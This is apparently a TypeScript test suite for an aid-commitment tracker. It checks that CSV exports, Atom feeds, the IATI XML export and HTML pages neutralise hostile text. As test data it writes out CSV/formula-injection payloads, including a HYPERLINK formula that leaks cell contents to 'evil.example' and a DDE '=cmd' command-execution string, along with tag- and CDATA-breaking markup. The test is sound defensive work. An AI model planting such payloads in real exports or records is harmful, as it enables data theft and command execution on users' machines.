/**
 * Issue 13, part 3: exports of hostile text. Text written to start a formula, to close a
 * tag or a CDATA section, with quotes, bidi overrides and characters XML cannot carry,
 * goes into every kind of record (a commitment, its source, a progress report and its
 * evidence, a comment, an assessment, a requirement, an imported IATI activity); then
 * every CSV the API documents, every CSV of `iif export all`, the Atom feeds and the IATI
 * export are read back strictly: no CSV cell starts a formula, no XML breaks or grows an
 * element out of the text, and the text reads back as written.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, it } from "node:test";
import { cliActor } from "../../src/lib/actor.ts";
import { ImportService } from "../../src/modules/activities/import.service.ts";
import { describeEachDialect } from "../helpers/app.ts";
import { parseXml, readAtom, type XmlElement } from "../helpers/atom.ts";
import { csvRecords } from "../helpers/csv.ts";
import { commitmentDraft, exportAll, requirementInput } from "../helpers/records.ts";
import { call, person } from "../helpers/users.ts";

const work = mkdtempSync(join(tmpdir(), "iif-export-escaping-"));
after(() => rmSync(work, { recursive: true, force: true }));

/** Markup, a CDATA end, quotes and a bidi override: text that must stay text. */
const markup = `<x-fuzz a="1" b='2'>&amp; ]]> \u202Eevil\u202C`;
/** Each starts a formula in a spreadsheet unless guarded. */
const formulas = [
	'=HYPERLINK("https://evil.example/?"&A1,"x")',
	"+1+1",
	"-2+3",
	"@SUM(A1)",
	"\t=1",
	"\r=1",
];
const hostile = (i: number, field: string) => `${formulas[i % formulas.length]} ${field} ${markup}`;

/** A cell a spreadsheet would run: starts with = + @ tab or CR, or - not starting a number. */
const runsAsFormula = (cell: string) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell);

function assertNoFormula(where: string, text: string): number {
	const { rows } = csvRecords(text);
	for (const row of rows)
		for (const [column, cell] of Object.entries(row))
			assert.ok(!runsAsFormula(cell), `${where}: ${column} = ${JSON.stringify(cell)}`);
	return rows.length;
}

/** Every element's name and all text, of a document read by a strict XML parser. */
function walk(el: XmlElement, names: Set<string>, texts: string[]): void {
	names.add(el.name);
	texts.push(el.text, ...Object.values(el.attributes));
	for (const c of el.children) walk(c, names, texts);
}

const iatiXml = (id: string) => `<?xml version="1.0" encoding="UTF-8"?>
<iati-activities version="2.03">
 <iati-activity default-currency="USD" last-updated-datetime="2021-01-01T00:00:00Z" xml:lang="en">
  <iati-identifier>${id}</iati-identifier>
  <reporting-org ref="XM-ESC&quot;&lt;x-fuzz&gt;" type="10"><narrative>=cmd|' /C calc'!A0 &lt;x-fuzz&gt; ]]&gt;</narrative></reporting-org>
  <title><narrative>-2+3 &lt;x-fuzz a="1"&gt;&amp;amp; &#x202E;</narrative></title>
  <description type="1"><narrative><![CDATA[@SUM(1) <x-fuzz/> ]]]]><![CDATA[> & "q"]]></narrative></description>
  <transaction><transaction-type code="3"/><transaction-date iso-date="2020-05-01"/>
   <value value-date="2020-05-01">-1500</value>
   <provider-org ref="XM-P"><narrative>+SUM(1,2)</narrative></provider-org>
  </transaction>
 </iati-activity>
</iati-activities>
`;

describeEachDialect("exports of hostile text", (ctx) => {
	let slug = "";
	const activity = "XM-ESC-1";

	before(async () => {
		const c = ctx();
		const focal = await person(c, {
			memberships: [{ stakeholder: "united-kingdom", role: "focal_point" }],
		});
		const secretariat = await person(c, { role: "secretariat" });
		const assessor = await person(c, { role: "assessor" });
		const citizen = await person(c);
		const ok = (res: { status: number; body: unknown }, what: string, status = 200) =>
			assert.equal(res.status, status, `${what}: ${JSON.stringify(res.body)}`);

		const created = await call(c, focal, "POST", "/api/v1/commitments", {
			...commitmentDraft,
			title: hostile(0, "title"),
			text: hostile(1, "text"),
			sources: [{ title: hostile(2, "source"), url: "https://example.org/source?a=1&b=<2>" }],
		});
		ok(created, "commitment", 201);
		slug = (created.body as { slug: string }).slug;
		const url = `/api/v1/commitments/${slug}`;
		ok(await call(c, focal, "POST", `${url}/submit`, {}), "submit");
		ok(await call(c, secretariat, "POST", `${url}/publish`, {}), "publish");
		ok(
			await call(c, focal, "POST", `${url}/reports`, {
				kind: "maker",
				stakeholder: "united-kingdom",
				period_start: "2016-01-01",
				period_end: "2016-12-31",
				disbursed: {
					amount: "5000000",
					currency: "GBP",
					recipients: [{ kind: "country", code: "ET" }],
					by_year: [{ year: 2016, amount: "5000000" }],
				},
				policy_status: "in_progress",
				// Characters XML 1.0 cannot carry at all: a feed must drop them, not break.
				narrative: `${hostile(3, "narrative")} \u0001\u000B\uFFFE end`,
				evidence: [{ title: hostile(4, "evidence"), url: "https://example.org/e" }],
			}),
			"report",
			201,
		);
		ok(
			await call(c, citizen, "POST", `${url}/comments`, { body: hostile(5, "comment") }),
			"comment",
			201,
		);
		ok(
			await call(c, assessor, "POST", `${url}/assessments`, {
				scheme: "scorecard",
				score: "good",
				rationale: hostile(0, "rationale"),
				evidence: [{ title: hostile(2, "assessment evidence"), url: "https://example.org/a" }],
			}),
			"assessment",
			201,
		);
		await c.services.requirements.create(
			requirementInput(`escaping-requirement-${c.dialect}`, {
				title: hostile(1, "requirement"),
				source_title: hostile(3, "requirement source"),
			}),
			cliActor,
		);
		const file = join(work, `${c.dialect}.xml`);
		writeFileSync(file, iatiXml(activity));
		const imported = await new ImportService(c.db.database).importFiles([file], cliActor);
		assert.deepEqual(imported.failed, []);
		assert.equal(imported.activities, 1, JSON.stringify(imported.rejected));
		ok(await call(c, secretariat, "POST", `${url}/links`, { activity, share: 50 }), "link");
	});

	it("guards every cell of every CSV the API documents", async () => {
		const c = ctx();
		const doc = (await c.get("/api/openapi.json")).body;
		const fill: Record<string, string> = { id: slug, identifier: activity };
		let files = 0;
		let rows = 0;
		for (const [path, item] of Object.entries<any>(doc.paths)) {
			const format = item.get?.parameters?.find((p: any) => p.name === "format");
			if (!format?.schema?.enum?.includes("csv")) continue;
			const url = `${path.replace(/\{(\w+)\}/g, (_, n: string) => fill[n] ?? n)}?format=csv`;
			const res = await c.app.inject({ method: "GET", url });
			assert.equal(res.statusCode, 200, `${url}: ${res.body.slice(0, 300)}`);
			rows += assertNoFormula(url, res.body);
			files++;
		}
		assert.ok(files >= 10, `${files} CSV operations`);
		// The hostile text is there, guarded, not dropped (the comment's leading CR trimmed, as comments are).
		const own = await c.app.inject({
			method: "GET",
			url: `/api/v1/commitments/${slug}/comments?format=csv`,
		});
		const body = csvRecords(own.body).rows[0]?.body;
		assert.equal(body, `'=1 comment ${markup}`);
		assert.ok(rows > 100, `${rows} rows`);
	});

	it("guards every cell of every CSV of `iif export all`", async () => {
		const dir = await exportAll(ctx(), join(work, `dump-${ctx().dialect}`));
		const csvs = readdirSync(dir).filter((n) => n.endsWith(".csv"));
		assert.ok(csvs.length >= 5, csvs.join());
		const all = csvs.map((n) => readFileSync(join(dir, n), "utf8"));
		for (const [i, n] of csvs.entries()) assertNoFormula(n, all[i] as string);
		assert.ok(
			all.some((t) => t.includes("'=HYPERLINK(")),
			"the hostile title is in the dump, guarded",
		);
	});

	it("keeps hostile text as text in every Atom feed", async () => {
		const c = ctx();
		for (const url of [
			"/feeds/all.atom",
			`/feeds/commitments/${slug}.atom`,
			"/feeds/stakeholders/united-kingdom.atom",
			"/feeds/goals/sdg-3.atom",
			"/feeds/countries/ET.atom",
		]) {
			const res = await c.app.inject({ method: "GET", url });
			assert.equal(res.statusCode, 200, url);
			const feed = readAtom(res.body); // strict: a feed that is not well-formed fails here
			const names = new Set<string>();
			const texts: string[] = [];
			walk(parseXml(res.body), names, texts);
			assert.ok(!names.has("x-fuzz"), `${url}: the text grew an element`);
			const all = texts.join("\n");
			assert.ok(all.includes(markup), `${url}: the markup reads back as text`);
			// Characters XML cannot carry are replaced, one U+FFFD each, never written raw.
			if (url.includes(slug))
				assert.ok(all.includes(`${hostile(3, "narrative")} \uFFFD\uFFFD\uFFFD end`), url);
			assert.ok(feed.entries.length > 0, url);
		}
	});

	it("keeps hostile text as text in the IATI export, attributes included", async () => {
		const c = ctx();
		for (const url of ["/api/v1/export/iati.xml", `/api/v1/export/iati.xml?commitment=${slug}`]) {
			const res = await c.app.inject({ method: "GET", url });
			assert.equal(res.statusCode, 200, url);
			const names = new Set<string>();
			const texts: string[] = [];
			walk(parseXml(res.body), names, texts);
			assert.ok(!names.has("x-fuzz"), `${url}: the text grew an element`);
			const all = texts.join("\n");
			for (const written of [
				'XM-ESC"<x-fuzz>',
				"=cmd|' /C calc'!A0 <x-fuzz> ]]>",
				'-2+3 <x-fuzz a="1">&amp; \u202E',
				'@SUM(1) <x-fuzz/> ]]> & "q"',
			])
				assert.ok(all.includes(written), `${url}: ${JSON.stringify(written)} reads back`);
		}
	});

	it("escapes it in the pages that show it", async () => {
		const c = ctx();
		for (const url of [
			`/en/commitments/${slug}`,
			"/en/commitments?q=evil",
			`/en/activities/${activity}`,
			"/en/stakeholders/united-kingdom",
		]) {
			const res = await c.app.inject({ method: "GET", url, headers: { accept: "text/html" } });
			assert.equal(res.statusCode, 200, url);
			assert.ok(!res.body.includes("<x-fuzz"), `${url}: markup echoed`);
		}
		const page = await c.app.inject({ method: "GET", url: `/en/commitments/${slug}` });
		assert.ok(page.body.includes("&lt;x-fuzz a=&quot;1&quot;"), "shown, escaped");
	});
});
